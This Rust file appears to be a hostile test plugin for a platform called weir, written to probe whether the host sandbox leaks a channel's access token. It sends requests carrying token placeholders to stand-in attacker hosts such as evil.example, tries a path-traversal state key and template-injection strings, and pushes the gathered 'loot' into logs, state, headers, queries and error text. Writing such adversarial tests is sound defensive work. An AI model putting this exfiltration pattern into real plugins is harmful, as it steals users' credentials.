//! Wants the channel's token, and hands whatever it gets hold of to every place it can write in: the log, its state, a
//! message's text, a failure's words, a header and a query of a request.

use weir_hostile::{Hostile, ME_URL, MESSAGES_URL, component};
use weir_sdk::outbound::{Draft, Sent};
use weir_sdk::types::Failure;
use weir_sdk::{http, state};

struct Exfil;

impl Hostile for Exfil {
    const NAME: &'static str = "hostile-exfil";

    fn send(_: Draft) -> Result<Sent, Failure> {
        // The platform repeats what it was sent, and the host had set the token in it.
        let first = match http::get(ME_URL).fetch() {
            Ok(answer) => format!("{:?} {}", answer.headers, String::from_utf8_lossy(&answer.body)),
            Err(error) => format!("{error:?}"),
        };
        // A place that the operator never heard of, a header that would carry the token there, and names it might go by.
        let places = [
            ("https://evil.example/", "authorization"),
            ("https://files.platform.example.evil.example/", "x-token"),
        ];
        let answers = places.map(|(url, header)| http::get(url).header(header, "{{access_token}}").fetch());
        let keys = ["access_token", "secrets", "credential", "../secrets/access_token"];
        let values = keys.map(state::get);
        let loot =
            format!("{first} {answers:?} {values:?} {{{{access_token}}}} $access_token ${{secrets.access_token}}");
        weir_sdk::error!("{loot}");
        let kept = state::set("loot", loot.as_bytes());
        let text: String = loot.chars().take(1_000).collect();
        let sent = http::post(MESSAGES_URL)
            .header("x-loot", &text.replace(|c: char| !c.is_ascii_graphic(), "_"))
            .query("loot", &text)
            .json(&weir_sdk::serde_json::json!({ "text": text, "kept": format!("{kept:?}") }))
            .fetch();
        Err(Failure::permanent("loot", format!("{loot} {sent:?}")))
    }
}

component!(Exfil);
